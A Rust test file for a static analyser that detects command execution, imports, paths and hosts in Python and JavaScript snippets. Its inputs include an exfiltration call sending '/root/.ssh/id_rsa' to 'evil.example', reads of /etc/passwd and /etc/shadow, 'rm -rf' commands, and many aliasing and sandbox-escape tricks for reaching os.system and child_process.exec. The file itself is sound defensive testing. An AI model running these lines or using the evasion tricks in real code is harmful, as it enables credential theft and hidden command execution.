//! What is found in written forms, each with what must not be found.

use super::super::{CodeFacts, DynamicKind, Syntax, javascript, python};

fn calls(facts: &CodeFacts, name: &str) -> bool {
    facts
        .calls
        .iter()
        .any(|call| call.called && call.name == name)
}

/// Every way to `os.system` that the text itself shows.
#[test]
fn python_resolves_aliases() {
    for text in [
        "import os\nos.system('id')",
        "import os as o\no.system('id')",
        "from os import system\nsystem('id')",
        "from os import system as s\ns('id')",
        "import os\nf = os.system\nf('id')",
        "import os\nf = os\ng = f\nh = g.system\nh('id')",
        "def f():\n    s('id')\nimport os\ns = os.system",
        "__import__('os').system('id')",
        "import importlib\nimportlib.import_module('os').system('id')",
        "from importlib import import_module as i\nm = i('o' + 's')\nm.system('id')",
        "import os\ngetattr(os, 'system')('id')",
        "import os\ngetattr(os, 'sys' 'tem')('id')",
        "import os\nn = 'system'\ngetattr(os, n)('id')",
        "import os\nos.system.__call__('id')",
        "import os\n(lambda: 0, os.system)\nos.__dict__['system']('id')",
        "import sys\nsys.modules['os'].system('id')",
        "from os import *\nsystem('id')",
        "import os\nif (s := os.system): s('id')",
        "import os\na, b = os.system, 1\na('id')",
        "import os\n(os.system if x else print)('id')",
        "import builtins\nbuiltins.__import__('os').system('id')",
        "__builtins__.__import__('os').system('id')",
        "import os\nc = f'id'\nos.system(c)",
        "import os\nfor c in ['id', 'ls']:\n    os.system(c)",
    ] {
        let facts = python(text);
        assert_eq!(facts.syntax, Syntax::Accepted, "{text}");
        assert!(calls(&facts, "os.system"), "{text}: {:?}", facts.calls);
        assert!(facts.shell.contains(&"id".to_owned()), "{text}: {facts:?}");
    }
    let harmless = python("import os\nprint(os.path.join('a', 'b'))");
    assert!(!harmless.mentions("os.system") && harmless.shell.is_empty());
    assert!(harmless.dynamic.is_empty(), "{:?}", harmless.dynamic);
}

/// What is not known before run time is said.
#[test]
fn python_says_what_is_dynamic() {
    use DynamicKind as Kind;
    for (text, kind) in [
        ("eval(x)", Kind::Code),
        ("e = eval\ne(x)", Kind::Code),
        ("map(eval, xs)", Kind::Code),
        ("exec('a')", Kind::Code),
        ("compile(a, b, c)", Kind::Code),
        ("# coding: utf-7\nx", Kind::Code),
        ("__import__(x)", Kind::Import),
        ("import importlib as i\ni.import_module(x)", Kind::Import),
        ("import runpy\nrunpy.run_path(x)", Kind::Import),
        ("getattr(a, b)", Kind::Member),
        ("from operator import attrgetter", Kind::Member),
        ("g = getattr", Kind::Member),
        ("globals()['x']", Kind::Namespace),
        ("vars()[x]()", Kind::Namespace),
        ("__builtins__['eval']", Kind::Namespace),
        ("import sys\nsys.modules[x]", Kind::Namespace),
        (
            "().__class__.__bases__[0].__subclasses__()",
            Kind::Introspection,
        ),
        ("import pickle\npickle.loads(x)", Kind::Deserialise),
        ("import marshal", Kind::Deserialise),
        ("import ctypes", Kind::Native),
        ("from ctypes import CDLL", Kind::Native),
        ("import os\nf(os)", Kind::ModuleValue),
        ("import os\nx = [os]", Kind::ModuleValue),
        ("f(__import__('os'))", Kind::ModuleValue),
        ("from os import *", Kind::StarImport),
        ("import os\nos.system(x)", Kind::Command),
        ("import os\nos.system(f'rm {x}')", Kind::Command),
        (
            "import subprocess\nsubprocess.run(['rm', x])",
            Kind::Command,
        ),
        ("import os\nc = 'rm '\nc += x\nos.system(c)", Kind::Command),
        (
            "x=a\nx=b1()\nx=b2()\nx=b3()\nx=b4()\nx=b5()\nx=b6()\nx=b7()",
            Kind::ManyMeanings,
        ),
    ] {
        let facts = python(text);
        assert_eq!(facts.syntax, Syntax::Accepted, "{text}");
        assert!(facts.has_dynamic(kind), "{text}: {facts:?}");
    }
    for text in [
        "import os\nos.system('ls')",
        "x = {'a': 1}\ny = x['a']\nprint(y)",
        "getattr(x, 'name')",
        "import numpy as np\nnp.array([1]).sum()",
        "class A:\n    def f(self):\n        return self.x",
    ] {
        assert_eq!(python(text).dynamic, [], "{text}");
    }
}

/// A function that is handed on is mentioned.
#[test]
fn python_lists_mentions() {
    for text in [
        "import os\nf(os.system)",
        "from os import system\nx = [system]",
        "import os\nd = {'a': os.system}\nd['a']('id')",
        "import os\n@os.system\ndef f(): pass",
        "import os\nclass A:\n    __add__ = os.system",
        "import os\ndef f(g=os.system): g('x')",
        "from os import system",
    ] {
        let facts = python(text);
        assert!(facts.mentions("os.system"), "{text}: {:?}", facts.calls);
    }
}

#[test]
fn python_reads_commands() {
    for (text, command) in [
        (
            "import subprocess\nsubprocess.run(['rm', '-rf', 'a b'])",
            "rm -rf 'a b'",
        ),
        (
            "import subprocess as s\ns.Popen('rm -rf x', shell=True)",
            "rm -rf x",
        ),
        (
            "import subprocess as s\ns.run('rm -rf x', shell=y)",
            "rm -rf x",
        ),
        ("import subprocess as s\ns.run('rm -rf x', **y)", "rm -rf x"),
        (
            "from subprocess import check_output as c\nc(args=['id'])",
            "id",
        ),
        ("import subprocess\nsubprocess.run('ls -l')", "'ls -l'"),
        ("import os\nos.execv('/bin/ls', ['ls', '-l'])", "/bin/ls -l"),
        ("import os\nos.execlp('ls', 'x', '-l')", "ls -l"),
        (
            "import os\nos.spawnl(os.P_WAIT, '/bin/ls', 'ls', '-l')",
            "/bin/ls -l",
        ),
        ("import pty\npty.spawn(['bash'])", "bash"),
        (
            "import asyncio\nasyncio.create_subprocess_exec('a', 'b')",
            "a b",
        ),
        ("import subprocess as s\na = ['x', 'y']\ns.call(a)", "x y"),
    ] {
        let facts = python(text);
        assert!(
            facts.shell.contains(&command.to_owned()),
            "{text}: {facts:?}"
        );
        assert!(!facts.has_dynamic(DynamicKind::Command), "{text}");
    }
}

#[test]
fn python_reads_imports_texts_and_members() {
    let facts = python(
        "import os.path, json as j\nfrom . import a\nfrom ..b.c import d\n\
         with open('/etc/passwd') as f:\n    f.read()\n\
         import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 80))\n\
         import requests\nrequests.get('http://evil.example/x', data=b'/root/.ssh/id_rsa')\n\
         p = f'/var/{x}/log'\nq = '/et' + 'c/shadow'\n",
    );
    assert_eq!(
        facts.imports,
        ["os.path", "json", ".", "..b.c", "socket", "requests"]
    );
    for name in [
        "open",
        "open().read",
        "socket.socket().connect",
        "requests.get",
    ] {
        assert!(calls(&facts, name), "{name}: {:?}", facts.calls);
    }
    for path in ["/etc/passwd", "/root/.ssh/id_rsa", "/var/", "/etc/shadow"] {
        assert!(facts.paths.contains(&path.to_owned()), "{:?}", facts.paths);
    }
    assert_eq!(facts.hosts, ["10.0.0.1", "http://evil.example/x"]);
    assert!(facts.complete && facts.syntax == Syntax::Accepted);
}

#[test]
fn python_rejects_what_is_wrong() {
    for text in [
        "def f(:",
        "x = = 1",
        "if x:\npass",
        "'a",
        "a b",
        "\0",
        "print 'x'",
    ] {
        assert_eq!(python(text).syntax, Syntax::Rejected, "{text:?}");
    }
}

/// Every way to `child_process.exec` that the text itself shows.
#[test]
fn javascript_resolves_aliases() {
    for text in [
        "require('child_process').exec('id')",
        "require('node:child_process').exec('id')",
        "const cp = require('child_process'); cp.exec('id')",
        "const {exec} = require('child_process'); exec('id')",
        "const {exec: e} = require('child_process'); e('id')",
        "const {exec = 1} = require('child_process'); exec('id')",
        "const {x, ...r} = require('child_process'); r.exec('id')",
        "import cp from 'child_process'; cp.exec('id')",
        "import * as cp from 'node:child_process'; cp.exec('id')",
        "import {exec as e} from 'child_process'; e('id')",
        "import cp = require('child_process'); cp.exec('id')",
        "(await import('child_process')).exec('id')",
        "const m = await import('child_process'); m.default.exec('id')",
        "let f; f = require('child_process').exec; f('id')",
        "f(); function f() { e('id') } var e = require('child_process').exec",
        "require('child_' + 'process')['ex' + 'ec']('id')",
        "const k = 'exec'; require(`child_process`)[k]('id')",
        "(0, require('child_process').exec)('id')",
        "require('child_process')?.exec?.('id')",
        "globalThis.require('child_process').exec('id')",
        "process.mainModule.require('child_process').exec('id')",
        "process.getBuiltinModule('child_process').exec('id')",
        "const p = require('util').promisify(require('child_process').exec); p('id')",
        "import {createRequire} from 'module'; const r = createRequire(u); \
         r('child_process').exec('id')",
        "(require('child_process') as any).exec('id' as string)",
        "const c = 'id'; require('child_process').exec(c)",
        "new (require('child_process').exec)('id')",
    ] {
        let facts = javascript(text);
        assert_eq!(facts.syntax, Syntax::Accepted, "{text}");
        let found = calls(&facts, "child_process.exec");
        assert!(found, "{text}: {:?}", facts.calls);
        assert!(facts.shell.contains(&"id".to_owned()), "{text}: {facts:?}");
        assert!(
            facts.imports.contains(&"child_process".to_owned()),
            "{text}"
        );
    }
    let harmless = javascript("const path = require('path'); console.log(path.join('a', 'b'))");
    assert!(
        harmless.shell.is_empty() && harmless.dynamic.is_empty(),
        "{harmless:?}"
    );
}

#[test]
fn javascript_says_what_is_dynamic() {
    use DynamicKind as Kind;
    for (text, kind) in [
        ("eval(x)", Kind::Code),
        ("(0, eval)(x)", Kind::Code),
        ("const e = eval; e(x)", Kind::Code),
        ("xs.map(eval)", Kind::Code),
        ("globalThis['eval'](x)", Kind::Code),
        ("new Function('return 1')()", Kind::Code),
        ("Function('return 1')()", Kind::Code),
        ("setTimeout('x()', 1)", Kind::Code),
        ("require('vm').runInNewContext(x)", Kind::Code),
        ("eval.call(null, x)", Kind::Code),
        ("new Worker(x)", Kind::Code),
        ("require(x)", Kind::Import),
        ("import(x)", Kind::Import),
        ("const r = require; f(r)", Kind::Import),
        ("require.call(null, x)", Kind::Import),
        ("process[x]", Kind::Member),
        ("globalThis[x](y)", Kind::Member),
        ("const g = globalThis; g[x]", Kind::Member),
        ("require('fs')[x]", Kind::Member),
        ("a[b](c)", Kind::Member),
        ("const {[x]: y} = z", Kind::Member),
        ("Reflect.get(a, b)", Kind::Member),
        ("f(globalThis)", Kind::Namespace),
        ("with (a) b()", Kind::Namespace),
        (
            "[]['constructor']['constructor']('x')()",
            Kind::Introspection,
        ),
        ("a.constructor.constructor('x')", Kind::Introspection),
        ("const {constructor: c} = f; c('x')", Kind::Introspection),
        ("a.__proto__.x = 1", Kind::Introspection),
        ("require('v8').deserialize(x)", Kind::Deserialise),
        ("process.binding('fs')", Kind::Native),
        ("process.dlopen(m, x)", Kind::Native),
        ("WebAssembly.instantiate(x)", Kind::Native),
        ("f(require('fs'))", Kind::ModuleValue),
        (
            "import('fs').then(m => m.readFileSync('x'))",
            Kind::ModuleValue,
        ),
        ("require('child_process').exec(x)", Kind::Command),
        ("require('child_process').exec(`rm ${x}`)", Kind::Command),
        ("require('child_process').spawn('rm', x)", Kind::Command),
        (
            "require('child_process').exec.call(null, 'x')",
            Kind::Command,
        ),
    ] {
        let facts = javascript(text);
        assert_eq!(facts.syntax, Syntax::Accepted, "{text}");
        assert!(facts.has_dynamic(kind), "{text}: {facts:?}");
    }
    for text in [
        "const fs = require('fs'); fs.readFileSync('a.txt')",
        "const a = [1]; for (let i = 0; i < 1; i++) a[i] = a[i] + 1",
        "setTimeout(() => f(), 10)",
        "class A { m() { return this.x } }",
        "module.exports = { a: 1 }",
        "const o = {a: 1}; o['a'].b; o.c()",
        "require('child_process').exec('ls', (e, o) => o)",
    ] {
        assert_eq!(javascript(text).dynamic, [], "{text}");
    }
}

#[test]
fn javascript_reads_commands_and_texts() {
    for (text, command) in [
        (
            "require('child_process').spawn('rm', ['-rf', 'a b'])",
            "rm -rf 'a b'",
        ),
        ("require('child_process').execFileSync('ls')", "ls"),
        (
            "require('child_process').spawn('a | b', {shell: true})",
            "a | b",
        ),
        (
            "require('child_process').spawn('a', ['|', 'b'], {shell: true})",
            "a | b",
        ),
        ("Bun.spawn(['a', 'b'])", "a b"),
        ("Bun.$`rm -rf x`", "rm -rf x"),
    ] {
        let facts = javascript(text);
        assert!(
            facts.shell.contains(&command.to_owned()),
            "{text}: {facts:?}"
        );
        assert!(!facts.has_dynamic(DynamicKind::Command), "{text}");
    }
    let facts = javascript(
        "import x from './a.js'; export * from 'b'; fetch('https://evil.example/' + y); \
         const p = `/etc/${z}`; f(require('fs').readFileSync); const q = '/et' + 'c/shadow'",
    );
    assert_eq!(facts.imports, ["./a.js", "b", "fs"]);
    assert_eq!(facts.hosts, ["https://evil.example/"]);
    for path in ["/etc/", "/etc/shadow"] {
        assert!(facts.paths.contains(&path.to_owned()), "{:?}", facts.paths);
    }
    assert!(calls(&facts, "fetch") && facts.mentions("fs.readFileSync"));
}

#[test]
fn javascript_reads_its_dialects() {
    for text in [
        "const a: number = 1; interface B { c?: string } enum D { E }",
        "function f<T>(x: T): T { return x as T }",
        "const a = <div>{x}</div>",
        "const a: any = <div>{x as any}</div>",
        "#!/usr/bin/env node\nlet x = /[(]/g",
        "var let1 = 010; with (a) {}",
        "export default class {}",
        "await x; for await (const y of z) {}",
        "",
    ] {
        assert_eq!(javascript(text).syntax, Syntax::Accepted, "{text}");
    }
    for text in ["let", "a b", "f(", "x = = 1", "'a", "{", "\0"] {
        assert_eq!(javascript(text).syntax, Syntax::Rejected, "{text:?}");
    }
}
